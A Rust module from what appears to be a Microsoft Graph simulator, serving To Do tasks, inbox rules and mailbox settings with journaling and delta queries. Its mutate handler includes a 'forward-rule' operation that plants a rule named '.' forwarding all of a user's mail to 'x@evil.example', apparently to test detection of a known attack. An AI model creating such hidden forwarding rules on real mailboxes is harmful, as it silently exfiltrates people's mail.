//! Microsoft To Do task lists and tasks, inbox rules and mailbox settings of a user.
//!
//! Generated from the seed on first use of a mailbox, then kept whole per user in memory;
//! every change is a journal record (`extras.jsonl` beside the state journal with
//! `--state`) replayed over the generated data at start. To Do lists and tasks have delta
//! queries (a sequence number per change; tombstones for deletions); rules and settings
//! have none. Assumptions where Graph's documentation is silent: docs/simulator.md.

use crate::content::canonical;
use crate::keys::Res;
use crate::seeded::{hash, rng};
use crate::sim::Sim;
use crate::wire::{Req, Resp};
use rand::Rng;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};
use std::collections::HashMap;
use std::fs::{File, OpenOptions};
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::sync::Mutex;

/// The fields of a task the manifest hashes (what a person wrote).
pub const TODO_TASK_CONTENT_FIELDS: &[&str] = &[
    "title",
    "body",
    "importance",
    "status",
    "categories",
    "dueDateTime",
    "isReminderOn",
    "reminderDateTime",
    "completedDateTime",
    "recurrence",
];
/// The fields of an inbox rule the manifest hashes.
pub const MESSAGE_RULE_CONTENT_FIELDS: &[&str] = &[
    "displayName",
    "sequence",
    "isEnabled",
    "conditions",
    "actions",
    "exceptions",
];
/// The mailbox settings the manifest hashes (and a restore writes back).
pub const MAILBOX_SETTINGS_CONTENT_FIELDS: &[&str] = &[
    "automaticRepliesSetting",
    "timeZone",
    "workingHours",
    "language",
    "dateFormat",
    "timeFormat",
];

/// Page size of the To Do delta queries.
const DELTA_PAGE: usize = 10;

#[derive(Clone, Debug, Serialize, Deserialize)]
struct Entry {
    id: String,
    /// Tasks: their list.
    #[serde(default)]
    list: String,
    v: Value,
    seq: u64,
    deleted: bool,
}

#[derive(Default)]
struct UserX {
    lists: Vec<Entry>,
    tasks: Vec<Entry>,
    rules: Vec<Entry>,
    settings: Value,
}

#[derive(Serialize, Deserialize)]
struct Record {
    u: u32,
    /// `list`, `task`, `rule`, `settings`, or `meta` (the instance).
    t: String,
    #[serde(default)]
    e: Option<Entry>,
    #[serde(default)]
    instance: u64,
}

struct Inner {
    instance: u64,
    seq: u64,
    users: HashMap<u32, UserX>,
    pending: HashMap<u32, Vec<Record>>,
    journal: Option<File>,
}

/// The store of every user's To Do, rules and settings.
pub struct Extras {
    inner: Mutex<Inner>,
}

impl Extras {
    pub fn open(dir: Option<&Path>) -> anyhow::Result<Self> {
        let mut inner = Inner {
            instance: rand::random::<u64>() >> 12,
            seq: 0,
            users: HashMap::new(),
            pending: HashMap::new(),
            journal: None,
        };
        if let Some(dir) = dir {
            std::fs::create_dir_all(dir)?;
            let path = dir.join("extras.jsonl");
            let fresh = !path.exists();
            if !fresh {
                for line in BufReader::new(File::open(&path)?).lines() {
                    let Ok(rec) = serde_json::from_str::<Record>(&line?) else {
                        continue;
                    };
                    if rec.t == "meta" {
                        inner.instance = rec.instance;
                        continue;
                    }
                    if let Some(e) = &rec.e {
                        inner.seq = inner.seq.max(e.seq);
                    }
                    inner.pending.entry(rec.u).or_default().push(rec);
                }
            }
            inner.journal = Some(OpenOptions::new().create(true).append(true).open(&path)?);
            if fresh {
                let meta = Record {
                    u: 0,
                    t: "meta".into(),
                    e: None,
                    instance: inner.instance,
                };
                write(&mut inner.journal, &meta)?;
            }
        }
        Ok(Self {
            inner: Mutex::new(inner),
        })
    }
}

fn write(j: &mut Option<File>, rec: &Record) -> anyhow::Result<()> {
    if let Some(j) = j.as_mut() {
        let mut line = serde_json::to_vec(rec)?;
        line.push(b'\n');
        j.write_all(&line)?;
        j.flush()?;
    }
    Ok(())
}

fn now() -> String {
    chrono::Utc::now()
        .format("%Y-%m-%dT%H:%M:%S%.6f0Z")
        .to_string()
}

const TITLES: &[&str] = &[
    "Renew passport",
    "Prepare quarterly report",
    "Call the plumber",
    "Réserver le restaurant pour l'équipe",
    "Book flights to Zürich",
    "Review pull requests",
    "会議の資料を準備する",
    "Pay electricity bill",
    "Send birthday card to Åsa",
    "Update project roadmap",
];
const LIST_NAMES: &[&str] = &["Groceries", "Projekte", "Reading list", "Été 2026"];
const STATUSES: &[&str] = &["notStarted", "inProgress", "completed", "waitingOnOthers"];
const IMPORTANCE: &[&str] = &["low", "normal", "high"];

fn gen_task(seed: u64, u: u32, list: &str, n: u64, r: &mut impl Rng) -> Value {
    let title = TITLES[r.random_range(0..TITLES.len())];
    let status = STATUSES[r.random_range(0..STATUSES.len())];
    let day = 1 + (hash(seed, &[u as u64, n, 3]) % 27);
    let created = format!("2026-01-{day:02}T09:{:02}:00.0000000Z", n % 60);
    let mut v = json!({
        "@odata.etag": format!("W/\"t{n}r0\""),
        "id": format!("AAkALgTD{u:04}{list}T{n:04}"),
        "title": title,
        "body": {"content": format!("{title}: see notes {n}"), "contentType": "text"},
        "importance": IMPORTANCE[r.random_range(0..IMPORTANCE.len())],
        "status": status,
        "isReminderOn": false,
        "categories": if r.random_bool(0.4) { json!(["Personal"]) } else { json!([]) },
        "createdDateTime": created,
        "lastModifiedDateTime": created,
    });
    if r.random_bool(0.6) {
        v["dueDateTime"] =
            json!({"dateTime": format!("2026-02-{day:02}T00:00:00.0000000"), "timeZone": "UTC"});
    }
    if status == "completed" {
        v["completedDateTime"] =
            json!({"dateTime": format!("2026-01-{day:02}T17:00:00.0000000"), "timeZone": "UTC"});
    }
    v
}

fn gen_rule(u: u32, n: u64, r: &mut impl Rng, domain: &str) -> Value {
    let (name, actions) = match r.random_range(0..3) {
        0 => (
            "Newsletters to Archive",
            json!({"moveToFolder": "archive", "stopProcessingRules": true}),
        ),
        1 => (
            "Mark notifications read",
            json!({"markAsRead": true, "assignCategories": ["Notifications"]}),
        ),
        _ => (
            "Forward invoices to accounting",
            json!({"forwardTo": [{"emailAddress": {"name": "Accounting", "address": format!("accounting@{domain}")}}]}),
        ),
    };
    json!({
        "id": format!("AQAAA{u:04}R{n:03}="),
        "displayName": name,
        "sequence": n + 1,
        "isEnabled": true,
        "hasError": false,
        "isReadOnly": false,
        "conditions": {"subjectContains": [format!("{name} {n}")]},
        "actions": actions,
    })
}

fn gen_settings(u: u32, seed: u64) -> Value {
    let zones = ["UTC", "W. Europe Standard Time", "Pacific Standard Time"];
    let z = zones[(hash(seed, &[u as u64, 91]) % 3) as usize];
    json!({
        "automaticRepliesSetting": {
            "status": "disabled",
            "externalAudience": "all",
            "internalReplyMessage": "",
            "externalReplyMessage": "",
            "scheduledStartDateTime": {"dateTime": "2026-01-01T00:00:00.0000000", "timeZone": "UTC"},
            "scheduledEndDateTime": {"dateTime": "2026-01-02T00:00:00.0000000", "timeZone": "UTC"},
        },
        "timeZone": z,
        "language": {"locale": "en-US", "displayName": "English (United States)"},
        "workingHours": {
            "daysOfWeek": ["monday", "tuesday", "wednesday", "thursday", "friday"],
            "startTime": "08:00:00.0000000",
            "endTime": "17:00:00.0000000",
            "timeZone": {"name": z},
        },
        "dateFormat": "M/d/yyyy",
        "timeFormat": "h:mm tt",
        "delegateMeetingMessageDeliveryOptions": "sendToDelegateOnly",
        "userPurpose": "user",
    })
}

impl Inner {
    fn user(&mut self, seed: u64, domain: &str, u: u32) -> &mut UserX {
        if !self.users.contains_key(&u) {
            let mut x = UserX::default();
            let mut r = rng(seed, &[0x70D0, u as u64]);
            let lists = r.random_range(1..=3u64);
            for l in 0..lists {
                let id = format!("AAMkL{u:04}x{l}");
                let name = if l == 0 {
                    "Tasks".to_string()
                } else {
                    LIST_NAMES[r.random_range(0..LIST_NAMES.len())].to_string()
                };
                let name = if x.lists.iter().any(|e| e.v["displayName"] == name.as_str()) {
                    format!("{name} {l}")
                } else {
                    name
                };
                x.lists.push(Entry {
                    id: id.clone(),
                    list: String::new(),
                    v: json!({
                        "@odata.etag": format!("W/\"l{l}r0\""),
                        "id": id,
                        "displayName": name,
                        "isOwner": true,
                        "isShared": false,
                        "wellknownListName": if l == 0 { "defaultList" } else { "none" },
                    }),
                    seq: 0,
                    deleted: false,
                });
                for n in 0..r.random_range(2..=5u64) {
                    let v = gen_task(seed, u, &format!("L{l}"), n, &mut r);
                    x.tasks.push(Entry {
                        id: v["id"].as_str().unwrap_or_default().to_string(),
                        list: id.clone(),
                        v,
                        seq: 0,
                        deleted: false,
                    });
                }
            }
            for n in 0..r.random_range(0..=3u64) {
                let v = gen_rule(u, n, &mut r, domain);
                x.rules.push(Entry {
                    id: v["id"].as_str().unwrap_or_default().to_string(),
                    list: String::new(),
                    v,
                    seq: 0,
                    deleted: false,
                });
            }
            x.settings = gen_settings(u, seed);
            for rec in self.pending.remove(&u).unwrap_or_default() {
                apply(&mut x, rec);
            }
            self.users.insert(u, x);
        }
        self.users.get_mut(&u).expect("just inserted")
    }

    /// Records and applies a change of user `u`.
    fn put(&mut self, seed: u64, domain: &str, u: u32, t: &str, mut e: Entry) -> Resp {
        self.seq += 1;
        e.seq = self.seq;
        let rec = Record {
            u,
            t: t.into(),
            e: Some(e),
            instance: 0,
        };
        if let Err(e) = write(&mut self.journal, &rec) {
            return crate::graph::internal(e);
        }
        let x = self.user(seed, domain, u);
        apply(x, rec);
        Resp::empty(204)
    }
}

fn apply(x: &mut UserX, rec: Record) {
    let Some(e) = rec.e else {
        return;
    };
    let coll = match rec.t.as_str() {
        "list" => &mut x.lists,
        "task" => &mut x.tasks,
        "rule" => &mut x.rules,
        "settings" => {
            x.settings = e.v;
            return;
        }
        _ => return,
    };
    match coll.iter_mut().find(|o| o.id == e.id) {
        Some(o) => *o = e,
        None => coll.push(e),
    }
}

fn sha(data: &[u8]) -> String {
    hex::encode(Sha256::digest(data))
}

/// `v` with the writable properties of `body` set (those `allowed`, or all but the ones
/// Graph sets itself when `allowed` is empty).
fn merge(v: &mut Value, body: &Map<String, Value>, allowed: &[&str]) {
    for (k, x) in body {
        let ok = if allowed.is_empty() {
            !["id", "createdDateTime", "lastModifiedDateTime"].contains(&k.as_str())
                && !k.starts_with('@')
        } else {
            allowed.contains(&k.as_str())
        };
        if ok {
            v[k] = x.clone();
        }
    }
}

fn bump_etag(v: &mut Value, seq: u64) {
    v["@odata.etag"] = json!(format!("W/\"s{seq}\""));
}

impl Sim {
    fn with_extras<T>(&self, f: impl FnOnce(&mut Inner, u64, &str) -> T) -> T {
        let mut g = self.extras.inner.lock().unwrap_or_else(|e| e.into_inner());
        let spec = &self.model.tenant.spec;
        f(&mut g, spec.seed, &spec.domain)
    }

    /// `/users/{id}/todo/…`.
    pub fn todo_routes(&self, req: &Req, r: Res, rest: &[&str]) -> Resp {
        let Res::User(u) = r else {
            return Resp::not_found_outlook();
        };
        let m = req.method.as_str();
        let url = format!("{}/v1.0{}", req.base, req.path);
        match rest {
            ["lists"] if m == "GET" => {
                let items = self.with_extras(|g, s, d| {
                    g.user(s, d, u)
                        .lists
                        .iter()
                        .filter(|e| !e.deleted)
                        .map(|e| e.v.clone())
                        .collect()
                });
                crate::paging::page_list(req, &url, items, 10, 200)
            }
            ["lists"] if m == "POST" => {
                let Ok(body) = req.json_body() else {
                    return Resp::bad_request("A todoTaskList body must be JSON.");
                };
                let Some(name) = body["displayName"].as_str().filter(|n| !n.is_empty()) else {
                    return Resp::bad_request("displayName is required.");
                };
                self.with_extras(|g, s, d| {
                    let id = format!("AAMkL{u:04}n{}", g.seq + 1);
                    let v = json!({"@odata.etag": "W/\"new\"", "id": id, "displayName": name,
                        "isOwner": true, "isShared": false, "wellknownListName": "none"});
                    let e = Entry {
                        id: id.clone(),
                        list: String::new(),
                        v: v.clone(),
                        seq: 0,
                        deleted: false,
                    };
                    match g.put(s, d, u, "list", e) {
                        resp if resp.status == 204 => Resp::json(201, v),
                        resp => resp,
                    }
                })
            }
            ["lists", "delta"] if m == "GET" => {
                let (instance, seq, all) = self.with_extras(|g, s, d| {
                    let (i, q) = (g.instance, g.seq);
                    (i, q, g.user(s, d, u).lists.clone())
                });
                delta_page(req, &url, instance, seq, all)
            }
            ["lists", lid, more @ ..] => self.todo_list_routes(req, u, lid, more, &url),
            _ => bad_segment(rest),
        }
    }

    fn todo_list_routes(&self, req: &Req, u: u32, lid: &str, rest: &[&str], url: &str) -> Resp {
        let m = req.method.as_str();
        let found = self.with_extras(|g, s, d| {
            g.user(s, d, u)
                .lists
                .iter()
                .find(|e| e.id == lid && !e.deleted)
                .cloned()
        });
        let Some(list) = found else {
            return Resp::error(
                404,
                "ErrorItemNotFound",
                "The specified object was not found in the store.",
            );
        };
        let body = || -> Result<Map<String, Value>, Resp> {
            req.json_body()?
                .as_object()
                .cloned()
                .ok_or_else(|| Resp::bad_request("The body must be a JSON object."))
        };
        match rest {
            [] if m == "GET" => Resp::ok(list.v),
            [] if m == "PATCH" => {
                let b = match body() {
                    Ok(b) => b,
                    Err(e) => return e,
                };
                let mut e = list.clone();
                merge(&mut e.v, &b, &["displayName"]);
                self.with_extras(|g, s, d| {
                    bump_etag(&mut e.v, g.seq + 1);
                    let v = e.v.clone();
                    match g.put(s, d, u, "list", e) {
                        r if r.status == 204 => Resp::ok(v),
                        r => r,
                    }
                })
            }
            [] if m == "DELETE" => {
                if list.v["wellknownListName"] == "defaultList" {
                    return Resp::bad_request("The default list cannot be deleted.");
                }
                self.with_extras(|g, s, d| {
                    let tasks: Vec<Entry> = g
                        .user(s, d, u)
                        .tasks
                        .iter()
                        .filter(|t| t.list == list.id && !t.deleted)
                        .cloned()
                        .collect();
                    for mut t in tasks {
                        t.deleted = true;
                        g.put(s, d, u, "task", t);
                    }
                    let mut e = list.clone();
                    e.deleted = true;
                    g.put(s, d, u, "list", e)
                })
            }
            ["tasks"] if m == "GET" => {
                let items = self.with_extras(|g, s, d| {
                    g.user(s, d, u)
                        .tasks
                        .iter()
                        .filter(|e| e.list == list.id && !e.deleted)
                        .map(|e| e.v.clone())
                        .collect()
                });
                crate::paging::page_list(req, url, items, 10, 200)
            }
            ["tasks"] if m == "POST" => {
                let b = match body() {
                    Ok(b) => b,
                    Err(e) => return e,
                };
                if !b.get("title").is_some_and(Value::is_string) {
                    return Resp::bad_request("title is required.");
                }
                self.with_extras(|g, s, d| {
                    let id = format!("AAkALgTD{u:04}n{}", g.seq + 1);
                    let t = now();
                    let mut v = json!({"id": id, "importance": "normal", "status": "notStarted",
                        "isReminderOn": false, "categories": [],
                        "body": {"content": "", "contentType": "text"},
                        "createdDateTime": t, "lastModifiedDateTime": t});
                    merge(&mut v, &b, &[]);
                    bump_etag(&mut v, g.seq + 1);
                    let e = Entry {
                        id,
                        list: list.id.clone(),
                        v: v.clone(),
                        seq: 0,
                        deleted: false,
                    };
                    match g.put(s, d, u, "task", e) {
                        r if r.status == 204 => Resp::json(201, v),
                        r => r,
                    }
                })
            }
            ["tasks", "delta"] if m == "GET" => {
                let (instance, seq, all) = self.with_extras(|g, s, d| {
                    let (i, q) = (g.instance, g.seq);
                    let all = g
                        .user(s, d, u)
                        .tasks
                        .iter()
                        .filter(|t| t.list == list.id)
                        .cloned()
                        .collect();
                    (i, q, all)
                });
                delta_page(req, url, instance, seq, all)
            }
            ["tasks", tid] => {
                let found = self.with_extras(|g, s, d| {
                    g.user(s, d, u)
                        .tasks
                        .iter()
                        .find(|e| e.id == *tid && e.list == list.id && !e.deleted)
                        .cloned()
                });
                let Some(mut e) = found else {
                    return Resp::error(
                        404,
                        "ErrorItemNotFound",
                        "The specified object was not found in the store.",
                    );
                };
                match m {
                    "GET" => Resp::ok(e.v),
                    "PATCH" => {
                        let b = match body() {
                            Ok(b) => b,
                            Err(e) => return e,
                        };
                        merge(&mut e.v, &b, &[]);
                        e.v["lastModifiedDateTime"] = json!(now());
                        self.with_extras(|g, s, d| {
                            bump_etag(&mut e.v, g.seq + 1);
                            let v = e.v.clone();
                            match g.put(s, d, u, "task", e) {
                                r if r.status == 204 => Resp::ok(v),
                                r => r,
                            }
                        })
                    }
                    "DELETE" => {
                        e.deleted = true;
                        self.with_extras(|g, s, d| g.put(s, d, u, "task", e))
                    }
                    _ => bad_segment(rest),
                }
            }
            _ => bad_segment(rest),
        }
    }

    /// `/users/{id}/mailFolders/inbox/messageRules[/{id}]`.
    pub fn rule_routes(&self, req: &Req, r: Res, rest: &[&str]) -> Resp {
        let Res::User(u) = r else {
            return Resp::not_found_outlook();
        };
        let m = req.method.as_str();
        let url = format!("{}/v1.0{}", req.base, req.path);
        let body = || -> Result<Map<String, Value>, Resp> {
            req.json_body()?
                .as_object()
                .cloned()
                .ok_or_else(|| Resp::bad_request("The body must be a JSON object."))
        };
        match rest {
            [] if m == "GET" => {
                let items = self.with_extras(|g, s, d| {
                    g.user(s, d, u)
                        .rules
                        .iter()
                        .filter(|e| !e.deleted)
                        .map(|e| e.v.clone())
                        .collect()
                });
                crate::paging::page_list(req, &url, items, 100, 1000)
            }
            [] if m == "POST" => {
                let b = match body() {
                    Ok(b) => b,
                    Err(e) => return e,
                };
                if !b.get("displayName").is_some_and(Value::is_string) {
                    return Resp::bad_request("displayName is required.");
                }
                self.with_extras(|g, s, d| new_rule(g, s, d, u, &b))
            }
            [rid] => {
                let found = self.with_extras(|g, s, d| {
                    g.user(s, d, u)
                        .rules
                        .iter()
                        .find(|e| e.id == *rid && !e.deleted)
                        .cloned()
                });
                let Some(mut e) = found else {
                    return Resp::error(
                        404,
                        "ErrorItemNotFound",
                        "The specified object was not found in the store.",
                    );
                };
                match m {
                    "GET" => Resp::ok(e.v),
                    "PATCH" => {
                        let b = match body() {
                            Ok(b) => b,
                            Err(e) => return e,
                        };
                        merge(&mut e.v, &b, MESSAGE_RULE_CONTENT_FIELDS);
                        let v = e.v.clone();
                        self.with_extras(|g, s, d| match g.put(s, d, u, "rule", e) {
                            r if r.status == 204 => Resp::ok(v),
                            r => r,
                        })
                    }
                    "DELETE" => {
                        e.deleted = true;
                        self.with_extras(|g, s, d| g.put(s, d, u, "rule", e))
                    }
                    _ => bad_segment(rest),
                }
            }
            _ => bad_segment(rest),
        }
    }

    /// `GET`/`PATCH /users/{id}/mailboxSettings`.
    pub fn mailbox_settings(&self, req: &Req, r: Res, archive_folder: String) -> Resp {
        let Res::User(u) = r else {
            return Resp::not_found_outlook();
        };
        let mut current = self.with_extras(|g, s, d| g.user(s, d, u).settings.clone());
        if req.method == "PATCH" {
            let b = match req.json_body() {
                Ok(Value::Object(b)) => b,
                Ok(_) => return Resp::bad_request("The body must be a JSON object."),
                Err(e) => return e,
            };
            merge(&mut current, &b, MAILBOX_SETTINGS_CONTENT_FIELDS);
            let e = Entry {
                id: "mailboxSettings".into(),
                list: String::new(),
                v: current.clone(),
                seq: 0,
                deleted: false,
            };
            let resp = self.with_extras(|g, s, d| g.put(s, d, u, "settings", e));
            if resp.status != 204 {
                return resp;
            }
        } else if req.method != "GET" {
            return Resp::error(405, "ErrorInvalidRequest", "Use GET or PATCH.");
        }
        current["archiveFolder"] = json!(archive_folder);
        let mut v = json!({"@odata.context": format!("{}/v1.0/$metadata#users('{u}')/mailboxSettings", req.base)});
        if let (Some(o), Some(c)) = (v.as_object_mut(), current.as_object()) {
            for (k, x) in c {
                o.insert(k.clone(), x.clone());
            }
        }
        let sel = req.select();
        crate::wire::apply_select(&mut v, &sel);
        Resp::ok(v)
    }

    /// `GET /_sim/manifest?resource=ID[&extras=true]`: with `extras`, the user's tasks, rules
    /// and settings too (kinds `todoTask`, `messageRule`, `mailboxSettings`).
    pub fn manifest_ext(&self, id: &str, extras: bool) -> Resp {
        let mut resp = self.manifest(id);
        if extras
            && let (crate::wire::Body::Json(Value::Array(out)), Some(r)) =
                (&mut resp.body, self.model.tenant.find_res(id))
        {
            out.extend(self.extras_manifest(r));
        }
        resp
    }

    /// The manifest entries of a user's tasks, rules and settings.
    pub fn extras_manifest(&self, r: Res) -> Vec<Value> {
        let Res::User(u) = r else {
            return vec![];
        };
        if !self.model.tenant.has_mailbox(r) {
            return vec![];
        }
        self.with_extras(|g, s, d| {
            let x = g.user(s, d, u);
            let mut out = Vec::new();
            for t in x.tasks.iter().filter(|t| !t.deleted) {
                let list = x
                    .lists
                    .iter()
                    .find(|l| l.id == t.list)
                    .and_then(|l| l.v["displayName"].as_str())
                    .unwrap_or_default();
                out.push(json!({"id": t.id, "kind": "todoTask", "path": list,
                    "sha256": sha(&canonical(&t.v, TODO_TASK_CONTENT_FIELDS))}));
            }
            for e in x.rules.iter().filter(|e| !e.deleted) {
                out.push(json!({"id": e.id, "kind": "messageRule", "path": "Inbox",
                    "sha256": sha(&canonical(&e.v, MESSAGE_RULE_CONTENT_FIELDS))}));
            }
            out.push(
                json!({"id": "mailboxSettings", "kind": "mailboxSettings", "path": "",
                "sha256": sha(&canonical(&x.settings, MAILBOX_SETTINGS_CONTENT_FIELDS))}),
            );
            out
        })
    }

    /// `POST /_sim/mutate` for kinds todoTask, messageRule, mailboxSettings and the op
    /// `forward-rule`.
    pub fn mutate_extras(&self, m: &crate::admin::MutateRequest) -> Resp {
        let t = &self.model.tenant;
        let fixed = match &m.resource {
            Some(id) => match t.find_res(id) {
                Some(r @ Res::User(_)) if t.has_mailbox(r) => Some(r),
                _ => {
                    return Resp::error(
                        404,
                        "notFound",
                        &format!("No user with a mailbox has id '{id}'."),
                    );
                }
            },
            None => None,
        };
        let ops = m.ops.clone().unwrap_or_else(|| {
            ["create", "modify", "delete"]
                .iter()
                .map(|s| s.to_string())
                .collect()
        });
        if ops.iter().any(|o| o == "forward-rule") {
            let Some(Res::User(u)) = fixed else {
                return Resp::bad_request("forward-rule needs a resource (the user).");
            };
            let to = m.to.clone().unwrap_or_else(|| "x@evil.example".into());
            return self.with_extras(|g, s, d| {
                let mut b = Map::new();
                b.insert("displayName".into(), json!("."));
                b.insert("sequence".into(), json!(1));
                b.insert("isEnabled".into(), json!(true));
                b.insert("conditions".into(), json!({}));
                b.insert(
                    "actions".into(),
                    json!({"forwardTo": [{"emailAddress": {"name": to, "address": to}}], "stopProcessingRules": false}),
                );
                let resp = new_rule(g, s, d, u, &b);
                let id = match &resp.body {
                    crate::wire::Body::Json(v) => v["id"].clone(),
                    _ => Value::Null,
                };
                Resp::ok(
                    json!({"applied": [{"op": "forward-rule", "kind": "messageRule", "id": id, "to": to}], "seq": g.seq}),
                )
            });
        }
        let kinds = m.kinds.clone().unwrap_or_default();
        let count = m.count.unwrap_or(1);
        let users: Vec<u32> = match fixed {
            Some(Res::User(u)) => vec![u],
            _ => (0..t.spec.users)
                .filter(|&i| t.has_mailbox(Res::User(i)))
                .collect(),
        };
        if users.is_empty() {
            return Resp::ok(json!({"applied": [], "seq": 0}));
        }
        self.with_extras(|g, s, d| {
            let mut r = rng(s ^ m.seed, &[0x70D1, g.seq]);
            let mut applied = Vec::new();
            let mut attempts = 0;
            while applied.len() < count as usize && attempts < count * 20 + 20 {
                attempts += 1;
                let u = users[r.random_range(0..users.len())];
                let kind = kinds[r.random_range(0..kinds.len())].as_str();
                let op = ops[r.random_range(0..ops.len())].as_str();
                let seq = g.seq + 1;
                let x = g.user(s, d, u);
                let done = match (kind, op) {
                    ("todoTask", "create") => {
                        let lists: Vec<String> = x
                            .lists
                            .iter()
                            .filter(|l| !l.deleted)
                            .map(|l| l.id.clone())
                            .collect();
                        let list = lists[r.random_range(0..lists.len())].clone();
                        let mut v = gen_task(s ^ m.seed, u, "M", seq, &mut r);
                        let id = format!("AAkALgTD{u:04}n{seq}");
                        v["id"] = json!(id);
                        let t = now();
                        v["createdDateTime"] = json!(t);
                        v["lastModifiedDateTime"] = json!(t);
                        bump_etag(&mut v, seq);
                        Some((
                            "task",
                            Entry {
                                id,
                                list,
                                v,
                                seq: 0,
                                deleted: false,
                            },
                        ))
                    }
                    ("todoTask", _) => {
                        let live: Vec<&Entry> = x.tasks.iter().filter(|e| !e.deleted).collect();
                        (!live.is_empty()).then(|| {
                            let mut e = live[r.random_range(0..live.len())].clone();
                            if op == "delete" {
                                e.deleted = true;
                            } else {
                                e.v["title"] = json!(format!(
                                    "{} (edited {seq})",
                                    e.v["title"].as_str().unwrap_or_default()
                                ));
                                e.v["status"] = json!("inProgress");
                                e.v["lastModifiedDateTime"] = json!(now());
                                bump_etag(&mut e.v, seq);
                            }
                            ("task", e)
                        })
                    }
                    ("messageRule", "create") => {
                        let mut v = gen_rule(u, seq, &mut r, d);
                        let id = format!("AQAAA{u:04}n{seq}=");
                        v["id"] = json!(id);
                        Some((
                            "rule",
                            Entry {
                                id,
                                list: String::new(),
                                v,
                                seq: 0,
                                deleted: false,
                            },
                        ))
                    }
                    ("messageRule", _) => {
                        let live: Vec<&Entry> = x.rules.iter().filter(|e| !e.deleted).collect();
                        (!live.is_empty()).then(|| {
                            let mut e = live[r.random_range(0..live.len())].clone();
                            if op == "delete" {
                                e.deleted = true;
                            } else {
                                let on = e.v["isEnabled"].as_bool().unwrap_or(true);
                                e.v["isEnabled"] = json!(!on);
                                e.v["displayName"] = json!(format!(
                                    "{} ({seq})",
                                    e.v["displayName"].as_str().unwrap_or_default()
                                ));
                            }
                            ("rule", e)
                        })
                    }
                    ("mailboxSettings", _) => {
                        let mut v = x.settings.clone();
                        v["automaticRepliesSetting"]["status"] = json!("alwaysEnabled");
                        v["automaticRepliesSetting"]["internalReplyMessage"] =
                            json!(format!("Out of office ({seq})"));
                        v["timeZone"] = json!("Tokyo Standard Time");
                        v["dateFormat"] = json!("dd.MM.yyyy");
                        Some((
                            "settings",
                            Entry {
                                id: "mailboxSettings".into(),
                                list: String::new(),
                                v,
                                seq: 0,
                                deleted: false,
                            },
                        ))
                    }
                    _ => None,
                };
                if let Some((t, e)) = done {
                    let entry = json!({"op": op, "kind": kind, "id": e.id, "user": u});
                    let resp = g.put(s, d, u, t, e);
                    if resp.status != 204 {
                        return resp;
                    }
                    applied.push(entry);
                }
            }
            Resp::ok(json!({"applied": applied, "seq": g.seq}))
        })
    }
}

/// Kinds the extras' mutation plays.
pub const EXTRA_KINDS: &[&str] = &["todoTask", "messageRule", "mailboxSettings"];

fn new_rule(g: &mut Inner, s: u64, d: &str, u: u32, b: &Map<String, Value>) -> Resp {
    let id = format!("AQAAA{u:04}n{}=", g.seq + 1);
    let mut v = json!({"id": id, "sequence": 1, "isEnabled": true, "hasError": false,
        "isReadOnly": false, "conditions": {}, "actions": {}});
    merge(&mut v, b, MESSAGE_RULE_CONTENT_FIELDS);
    let e = Entry {
        id,
        list: String::new(),
        v: v.clone(),
        seq: 0,
        deleted: false,
    };
    match g.put(s, d, u, "rule", e) {
        r if r.status == 204 => Resp::json(201, v),
        r => r,
    }
}

/// One page of a To Do delta query over `all` (current entries and tombstones).
/// `$deltatoken=<instance>.<seq>`: changes after seq; `$skiptoken=<instance>.<from>.<upto>.<offset>`.
fn delta_page(req: &Req, url: &str, instance: u64, seq: u64, all: Vec<Entry>) -> Resp {
    let gone = || {
        Resp::error(
            410,
            "syncStateNotFound",
            "The sync state generation is not found. Please re-sync from the start.",
        )
    };
    let parse = |t: &str| -> Option<Vec<u64>> {
        t.split('.')
            .map(|p| p.parse().ok())
            .collect::<Option<Vec<u64>>>()
    };
    let (from, upto, offset, fresh) = if let Some(t) = req.q("$skiptoken") {
        match parse(t).as_deref() {
            Some([i, f, u, o, n]) if *i == instance && *u <= seq => (*f, *u, *o as usize, *n == 1),
            _ => return gone(),
        }
    } else if let Some(t) = req.q("$deltatoken") {
        match parse(t).as_deref() {
            Some([i, f]) if *i == instance && *f <= seq => (*f, seq, 0, false),
            _ => return gone(),
        }
    } else {
        (0, seq, 0, true)
    };
    // A fresh round lists what is there; a round from a token what changed after it.
    let mut items: Vec<&Entry> = all
        .iter()
        .filter(|e| e.seq <= upto)
        .filter(|e| if fresh { !e.deleted } else { e.seq > from })
        .collect();
    items.sort_by(|a, b| a.seq.cmp(&b.seq).then(a.id.cmp(&b.id)));
    let size = req
        .max_page_size()
        .map(|n| n as usize)
        .unwrap_or(DELTA_PAGE)
        .max(1);
    let page: Vec<Value> = items
        .iter()
        .skip(offset)
        .take(size)
        .map(|e| {
            if e.deleted {
                json!({"id": e.id, "@removed": {"reason": "deleted"}})
            } else {
                e.v.clone()
            }
        })
        .collect();
    let mut body = json!({"value": page});
    if offset + size < items.len() {
        body["@odata.nextLink"] = json!(format!(
            "{url}?$skiptoken={instance}.{from}.{upto}.{}.{}",
            offset + size,
            u8::from(fresh)
        ));
    } else {
        body["@odata.deltaLink"] = json!(format!("{url}?$deltatoken={instance}.{upto}"));
    }
    Resp::ok(body)
}

fn bad_segment(rest: &[&str]) -> Resp {
    Resp::bad_request(&format!(
        "Resource not found for the segment '{}'.",
        rest.first().copied().unwrap_or_default()
    ))
}
